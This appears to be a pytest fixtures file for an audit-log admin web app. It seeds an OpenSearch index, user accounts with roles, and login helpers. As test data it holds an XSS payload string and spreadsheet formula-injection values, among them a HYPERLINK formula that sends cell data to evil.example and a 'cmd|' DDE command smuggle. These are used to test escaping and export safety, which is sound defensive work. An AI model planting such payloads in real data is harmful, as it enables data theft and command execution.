"""Fixtures for the admin UI: a real OpenSearch index seeded from the whole catalog.

One seeded index serves the whole session (seeding is the slow part); every
test gets a fresh app, user database and audit spool.

Accounts and people:

* ``acme`` and ``globex`` hold sample events; ``globex`` also one whose
  comment says ``globexsecret`` (tenant isolation checks look for it).
* ``alice`` is USER_ADMIN of acme; ``bob`` of acme and globex; ``carol``
  has only a VIEWER role on acme; ``dave`` is USER_ADMIN of globex.
"""

from __future__ import annotations

import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from support import CSRF_RE

PASSWORD = "correct horse battery"
N_EVENTS = 1500
XSS_COMMENT = '<script>alert("xss1")</script><img src=x onerror=alert("xss2")> xsscanary'
FORMULAS = {
    "audit.comments": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "user.full_name": "+1+2",
    "audit.project.name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "audit.token.id": "-2+3",
}


def _special_docs(now: datetime) -> list[dict[str, Any]]:
    from useraudit.indexer.enrich import Enricher

    enrich = Enricher()
    base = {
        "event.outcome": "success",
        "source.address": "192.0.2.200",
        "user_agent.original": (
            "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
        ),
        "user.id": "u9001",
        "user.name": "mallory",
        "user.email": "mallory@example.com",
    }

    def at(minutes: int) -> dict[str, Any]:
        ts = now - timedelta(minutes=minutes)
        return {
            "@timestamp": ts.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
            "event.id": f"{int(ts.timestamp() * 1000):012x}{uuid.uuid4().hex[:20]}",
        }

    raws = [
        {
            **base,
            **at(5),
            "organization.id": "acme",
            "event.action": "bot_project.settings_updated",
            "audit.comments": XSS_COMMENT,
            "audit.project.id": "xss-proj",
        },
        {
            **base,
            **at(6),
            "organization.id": "acme",
            "event.action": "token.created",
            **FORMULAS,
            "audit.project.id": "formula-proj",
        },
        {
            **base,
            **at(7),
            "organization.id": "globex",
            "event.action": "custom_role.renamed",
            "audit.comments": "globexsecret renamed Editors to Reviewers",
            "user.name": "gina",
            "user.id": "u9002",
            "user.email": "gina@globex.example",
        },
    ]
    return [enrich(r) for r in raws]


@pytest.fixture(scope="session")
def seeded_store(opensearch_url: str) -> Iterator[Any]:
    """A real OpenSearch index (unique prefix) holding sample events of acme and globex."""
    from support.sample import seed_store

    from useraudit.store.opensearch import OpenSearchStore

    store = OpenSearchStore(opensearch_url, prefix=f"uat-web-{uuid.uuid4().hex[:8]}")
    store.install()
    now = datetime.now(UTC)
    try:
        seed_store(
            store, N_EVENTS, accounts=("acme", "globex"), now=now - timedelta(minutes=30), days=25
        )
        assert all(r.delivered for r in store.write(_special_docs(now)))
        store.refresh()
        yield store
    finally:
        store.uninstall()
        store.close()


@pytest.fixture(scope="session")
def users_db(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The built-in user store with alice, bob, carol and dave."""
    from useraudit.webapp.users import UserStore

    users = UserStore(tmp_path_factory.mktemp("users") / "webusers.db")
    for name, grants in (
        ("alice", [("acme", "USER_ADMIN")]),
        ("bob", [("acme", "USER_ADMIN"), ("globex", "USER_ADMIN")]),
        ("carol", [("acme", "VIEWER")]),
        ("dave", [("globex", "USER_ADMIN")]),
    ):
        users.add(name, PASSWORD, email=f"{name}@example.com", full_name=name.title() + " Admin")
        for account, role in grants:
            users.grant(name, account, role)
    return users


@pytest.fixture
def audit_spool(tmp_path: Path) -> Callable[[], list[dict[str, Any]]]:
    """Point useraudit.record() at a fresh spool; returns a reader of what was recorded."""
    import json

    import useraudit
    from useraudit.spool import iter_all

    spool = tmp_path / "spool"
    recorder = useraudit.configure(spool_dir=spool, durability="sync")

    def read() -> list[dict[str, Any]]:
        recorder.flush()
        return [json.loads(p) for p in iter_all(spool)]

    return read


def make_app(store: Any, users: Any, **config: Any) -> Flask:
    from useraudit.webapp.app import create_app

    return create_app(
        {
            "TESTING": True,
            "SECRET_KEY": "test-secret",
            "SESSION_COOKIE_SECURE": False,
            "USERAUDIT_STORE": store,
            "USERAUDIT_USERS": users,
            **config,
        }
    )


@pytest.fixture
def app(seeded_store: Any, users_db: Any, audit_spool: Any) -> Flask:
    """A fresh admin UI app on the seeded store (own rate-limit memory, own spool)."""
    return make_app(seeded_store, users_db)


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


def csrf_token(client: FlaskClient, path: str = "/login") -> str:
    page = client.get(path).get_data(as_text=True)
    match = CSRF_RE.search(page)
    assert match, f"no CSRF token on {path}"
    return match.group(1)


def login(client: FlaskClient, username: str, password: str = PASSWORD, **kw: Any) -> Any:
    token = csrf_token(client)
    return client.post(
        "/login", data={"username": username, "password": password, "csrf_token": token}, **kw
    )


@pytest.fixture
def as_user(client: FlaskClient) -> Callable[[str], FlaskClient]:
    """Sign the test client in as the named user."""

    def sign_in(username: str) -> FlaskClient:
        response = login(client, username)
        assert response.status_code == 302, response.get_data(as_text=True)[:500]
        return client

    return sign_in


@pytest.fixture(scope="session")
def initech(seeded_store: Any, users_db: Any) -> list[dict[str, Any]]:
    """Events of account ``initech`` (details, chart, time tests) and its admin ``ivan``."""
    from .adminview_docs import install

    return install(seeded_store, users_db, PASSWORD)
